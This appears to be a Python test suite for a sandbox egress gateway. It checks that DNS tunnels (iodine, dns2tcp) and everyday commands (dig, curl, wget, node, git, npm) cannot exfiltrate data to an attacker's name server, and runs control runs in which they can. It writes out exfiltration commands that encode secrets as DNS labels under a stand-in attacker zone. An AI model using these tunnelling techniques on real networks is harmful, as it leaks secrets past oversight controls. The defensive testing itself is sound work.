#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Real tunnels and an agent's own commands, from a sandbox whose only way out is the DNS port, to a name server of an attacker's: by default
nothing leaves. Each beside its control, in which it does. THREATS: J, K. In network and mount namespaces of its own; as root."""
import atexit
import contextlib
import glob
import hashlib
import os
import secrets
import shutil
import sys
import tempfile

import dns_lab as D
import lab as L
from faults import FULL
from lab import Lab, Skip, wait_for

ISOLATED = True
AGENT = f"  - {{name: coder, identify: [{{source: {D.SANDBOX}/32}}]}}\n"
SYNTHETIC = f"  synthetic: {{v4: {D.NEAR}, v6: null}}"
TYPES = ("NULL", "PRIVATE", "TXT", "SRV", "MX", "CNAME", "A")
CODECS = ("Base32", "Base64", "Base64u", "Base128", "Raw")


def outgate(rules="", resolver=SYNTHETIC, tail=""):
    """Its port is the sandbox's name server, the attacker's name server its upstream."""
    return Lab(listen=f'  dns: ["{D.NEAR}:53"]', agents=AGENT, rules=rules, resolver=resolver, upstreams=f"{D.OUTSIDE}:53", tail=tail)


def datagrams(net):
    """UDP datagrams that came to the outside, whoever listened there or not."""
    rows = [line.split() for line in net.run("outside", "cat", "/proc/net/snmp").stdout.splitlines() if line.startswith("Udp:")]
    seen = dict(zip(rows[0], rows[1]))
    return int(seen["InDatagrams"]) + int(seen["NoPorts"])


ELSEWHERE = "t.evil-zone.org"  # of no rule, and not special as .test is


def clients_of(d):
    """iodine with every record type and codec, lazy and not, with short names, raw; or a few of them."""
    options = [(f"-T{t}", f"-O{c}") for t in TYPES for c in CODECS] if FULL else [(f"-T{t}",) for t in ("NULL", "TXT", "A")]
    lazy = [(f"-T{t}", "-L0", "-I1") for t in (TYPES if FULL else ("CNAME",))]
    devices = (f"dns{i}" for i in range(200))
    return [d.client("-d", next(devices), *o) for o in [*options, *lazy, ("-M100",), ()]] + [d.client("-d", next(devices), raw=True)]


def watch(d, clients):
    """Until each has given up, or one is up, which is what must not be."""
    wait_for(lambda: all(d.gave_up(p) for p in clients) or any(d.up(p) for p in clients), lambda: [D.read(p)[-300:] for p in clients], 60)
    assert not any(d.up(p) for p in clients), [D.read(p)[-300:] for p in clients]


def test_iodine():
    """By default it gives up, and its server hears nothing. The control: the same client and server with a relay in our place."""
    with D.Net() as net:
        d = D.Iodine(net)
        with outgate() as lab:
            before = datagrams(net)
            watch(d, clients_of(d))
            assert datagrams(net) == before and not d.heard(), d.heard()
            e = lab.event(lambda e: e.get("qname", "").endswith(D.ZONE) and e["verdict"] == "deny", ("dns",))
            assert e["agent"] == "coder" and e["rcode"] == "REFUSED" and e["code"] == "host_denied", e
        with D.Relay():
            p = d.client("-TNULL")
            wait_for(lambda: d.up(p), lambda: D.read(p), 30)
            assert d.transfer(8192) == 8192


def test_dns2tcp():
    """As above: no byte comes to the server's resource. (Its names need their letter case, which a forwarded question does not keep: no configuration lets it
    through.)"""
    with D.Net() as net:
        d = D.Dns2tcp(net)
        with outgate() as lab:
            before = datagrams(net)
            for qtype in ("TXT", "KEY"):
                p = d.client("-T", qtype)
                assert d.transfer(8192) == 0 and datagrams(net) == before, D.read(p)
                net.stop(p)
            lab.event(lambda e: e.get("qname", "").endswith(D.ZONE) and e["verdict"] == "deny", ("dns",))
        with D.Relay():
            d.client("-T", "TXT")
            d.transfer(8192)
            wait_for(lambda: D.got(d.sink) == 8192, lambda: f"{D.got(d.sink)} of 8192 bytes")


TUNNELS = f'  - {{name: tunnels, hosts: ["*.{D.ZONE}", {D.ZONE}], dns_types: [A, AAAA, TXT, MX, SRV], action: allow}}'


def under_a_rule(action):
    """An operator lets the tunnel's zone through, wildcard, types and all; nothing but dns_tunnel.action differs."""
    return outgate(rules=TUNNELS, resolver="  answer: forward", tail=f"exfiltration: {{dns_tunnel: {{action: {action}}}}}\nlimits: {{dns_rate: 100000}}\n")


def test_iodine_under_a_rule():
    """The control run, in which the transfer succeeds, and the same with `block`: it is cut before the link is up. All record types that a rule can
    list; those that it cannot (NULL, PRIVATE, CNAME) never pass, nor does A, whose answers are aliases."""
    ways = [("-TTXT", "-OBase32"), ("-TTXT", "-OBase64"), ("-TTXT", "-L0"), ("-TMX",), ("-TSRV",)] if FULL else [("-TTXT", "-OBase32")]
    for way in ways:
        with D.Net() as net:
            d = D.Iodine(net)
            with under_a_rule("flag") as lab:
                p = d.client(*way)
                wait_for(lambda: d.up(p) or p.poll() is not None, lambda: D.read(p), 60)
                assert d.up(p) and d.transfer(8192) == 8192 and d.heard_packets(), (way, D.read(p))
                lab.event(lambda e: e["class"] == "dns_tunnel" and "evil.test" in e["sentence"], ("finding",))
    with D.Net() as net:
        d = D.Iodine(net)
        with under_a_rule("block") as lab:
            watch(d, [d.client("-d", f"dns{i}", *way) for i, way in enumerate([*ways, *([("-TA",), ("-TNULL",)] if FULL else [])])])
            e = lab.event(lambda e: e.get("code") == "exfiltration", ("dns",))
            assert e["qname"].endswith(D.ZONE) and e["rcode"] == "REFUSED" and e["rule"] == "tunnels", e
            assert not d.heard_packets() and d.heard_bytes() <= 256, d.heard_bytes()


ONE_WAY = """
import socket, sys
for label in sys.argv[2:]:
    try:
        socket.gethostbyname(f"{label}.{sys.argv[1]}.")
    except OSError:
        pass
"""
CHUNKS, CHUNK = 200, 8  # names, characters of base32 in each, too few to look encoded


def one_way(net, d, action):
    """No rule names the zone, `mode: observe` lets questions for addresses through: iodine, then data that asks for no answer."""
    tail = f"mode: observe\nexfiltration: {{dns_tunnel: {{action: {action}}}}}\nlimits: {{dns_rate: 100000}}\n"
    with outgate(resolver="  answer: forward", tail=tail) as lab:
        watch(d, [d.client("-d", f"dns{i}", "-OBase32", *o) for i, o in enumerate([(), ("-TA",)])])
        lab.event(lambda e: e.get("qname", "").endswith(ELSEWHERE) and e["verdict"] == "observe", ("dns",))
        chunks = ["z" + "".join(secrets.choice("abcdefghijklmnopqrstuvwxyz012345") for _ in range(CHUNK - 1)) for _ in range(CHUNKS)]
        net.run("sandbox", sys.executable, "-c", ONE_WAY, ELSEWHERE, *chunks, timeout=50)
        if action == "block":
            e = lab.event(lambda e: e.get("code") == "exfiltration", ("dns",))
            assert e["qname"].endswith(ELSEWHERE) and e["rcode"] == "REFUSED" and e["rule"] is None, e
        return len(d.heard() & set(chunks))


def test_iodine_in_observe_mode():
    """The link never comes up, and what its server can be told one way ends with the budget of a zone: 128 bytes, less than 256 however they are counted. The
    control: with dns_tunnel.action: flag more than that arrives."""
    with D.Net() as net:
        d = D.Iodine(net, ELSEWHERE)
        assert one_way(net, d, "block")
        assert d.heard_bytes() <= 256 and not d.heard_packets(), (d.heard_bytes(), d.heard())
    with D.Net() as net:
        d = D.Iodine(net, ELSEWHERE)
        assert one_way(net, d, "flag") and d.heard_bytes() > 256, d.heard_bytes()


NPM_CACHE = os.path.join(tempfile.gettempdir(), f"outgate-npm-{os.getpid()}")
atexit.register(shutil.rmtree, NPM_CACHE, True)


def commands(name):
    """What an agent would type to carry something out in a name."""
    yield "ping", ["ping", "-c", "2", "-W", "1", name]
    yield "getent", ["getent", "hosts", name]
    yield "nslookup", ["nslookup", "-timeout=2", name]
    yield "dig", ["dig", "+tries=1", "+timeout=2", "TXT", name]
    yield "dig, over TCP", ["dig", "+tcp", "+tries=1", "+timeout=2", name]
    yield "host", ["host", "-W", "2", name]
    yield "curl", ["curl", "-sS", "-m", "5", f"http://{name}/"]
    yield "wget", ["wget", "-q", "-T", "3", "-t", "1", "-O", "-", f"http://{name}/"]
    yield "node", ["node", "-e", f"require('dns').resolveTxt('{name}', () => require('dns').lookup('{name}', () => 0))"]
    yield "python", [sys.executable, "-c", f"import socket\ntry: socket.getaddrinfo('{name}', 80)\nexcept OSError: pass"]
    yield "git", ["git", "ls-remote", f"https://{name}/x.git"]
    yield "npm", ["npm", "view", "x", f"--registry=http://{name}/", "--fetch-retries=0", "--no-update-notifier", "--logs-max=0",
                  f"--cache={NPM_CACHE}"]


def children():
    """Of this process, by name."""
    found = []
    for stat in glob.glob("/proc/[0-9]*/stat"):
        with contextlib.suppress(OSError), open(stat) as f:
            name, rest = f.read().split("(", 1)[1].rsplit(")", 1)
            if int(rest.split()[1]) == os.getpid():
                found.append(name)
    return found


def test_net_that_fails_midway():
    """Its second pair of devices cannot be made: of the first nothing is left. The control: with the name free it is there."""
    before = children()
    D.sh("ip", "link", "add", "to-outside", "type", "veth", "peer", "name", "spare")
    try:
        D.Net().close()
    except AssertionError as e:
        assert "to-outside" in str(e), e
    else:
        raise AssertionError("two devices have one name")
    assert children() == before and "to-sandbox" not in D.sh("ip", "-br", "link"), (children(), D.sh("ip", "-br", "link"))
    with D.Net():
        assert len(children()) == len(before) + 2 and "to-sandbox" in D.sh("ip", "-br", "link")


def test_commands():
    """A key as a label, by the commands of every day, with a cluster's search list: no packet leaves, and each attempt is in the log. The control: with a relay in
    our place each of them carries it out."""
    with D.Net(search="ns.svc.cluster.local svc.cluster.local cluster.local") as net:
        listener = D.Listener(net)
        tried = [(what, argv) for what, argv in commands("x") if shutil.which(argv[0])]
        assert len(tried) >= 4, tried
        with outgate() as lab:
            before = datagrams(net)
            for what, _ in tried:
                key = secrets.token_hex(16)
                argv = dict(commands(f"{key}.{D.ZONE}"))[what]
                net.run("sandbox", *argv)
                assert datagrams(net) == before and not listener.heard(key), what
                e = lab.event(lambda e: e.get("qname") == f"{key[:6]}...[+26 sha256:{hashlib.sha256(key.encode()).hexdigest()[:16]}].{D.ZONE}", ("dns",))
                assert e["verdict"] == "deny" and e["agent"] == "coder", (what, e)
        with D.Relay():
            for what, _ in tried:
                key = secrets.token_hex(16)
                net.run("sandbox", *dict(commands(f"{key}.{D.ZONE}"))[what])
                assert listener.heard(key), f"the control: {what}"


GETADDRINFO = r"""
#include <netdb.h>
#include <stdio.h>
#include <sys/socket.h>
int main(int argc, char **argv)
{
    for (int i = 1; i < argc; i++) {
        struct addrinfo *v = NULL, want = { .ai_socktype = SOCK_STREAM };
        int error = getaddrinfo(argv[i], "443", &want, &v);
        printf("%s %d", argv[i], error);
        for (; !error && v; v = v->ai_next) {
            char text[64];
            getnameinfo(v->ai_addr, v->ai_addrlen, text, sizeof text, NULL, 0, NI_NUMERICHOST);
            printf(" %s", text);
        }
        putchar('\n');
    }
}
"""


def test_musl():
    """A program with musl's resolver, which asks for both families at once and ends its search at any answer but "does not exist": with a cluster's search
    list it gets the names that rules let through, and only those (for a refusal it waits out its time, as for silence). The controls: names that differ in a letter; and glibc's resolver, the same program."""
    if not shutil.which("musl-gcc") or not shutil.which("gcc"):
        raise Skip("musl-gcc is not installed (musl-tools)")
    with D.Net(search="ns.svc.cluster.local svc.cluster.local cluster.local") as net:
        for cc in ("musl-gcc", "gcc"):
            exe = os.path.join(net.dir, cc + ".out")
            D.sh(cc, "-xc", "-", "-o", exe, "-D_GNU_SOURCE", input=GETADDRINFO)
            six = SYNTHETIC.replace("null", '"fd77::1"')
            for resolver, denied in ((SYNTHETIC, ("api.corp-two.com", "up.test")), (six, ()), (six.replace(D.NEAR, "null"), ())):
                with outgate(rules='  - {name: some, hosts: [api.corp-one.com, "*.up.test", build.internal, box], action: allow}', resolver=resolver) as lab:
                    before, allowed = datagrams(net), ("api.corp-one.com", "a.up.test", "build.internal", "box")
                    r = net.run("sandbox", exe, *allowed, *denied)
                    said = {row.split()[0]: row.split()[1:] for row in r.stdout.splitlines()}
                    want = [a for a in (D.NEAR, "fd77::1") if a in resolver]
                    assert all(said[name][0] == "0" and sorted(set(said[name][1:])) == want for name in allowed), (cc, resolver, r.stdout)
                    assert all(said[name][0] != "0" and len(said[name]) == 1 for name in denied), (cc, resolver, r.stdout)
                    assert datagrams(net) == before
                    e = lab.event(lambda e: e.get("qname", "").endswith(".cluster.local"), ("dns",))
                    assert e["rcode"] == "NXDOMAIN", e


if __name__ == "__main__":
    try:
        D.isolated()
    except Skip as e:
        print(f"skip  test_dns_tunnels: {e}\n0 passed, 0 failed, 1 skipped")
        sys.exit(0)
    L.main()
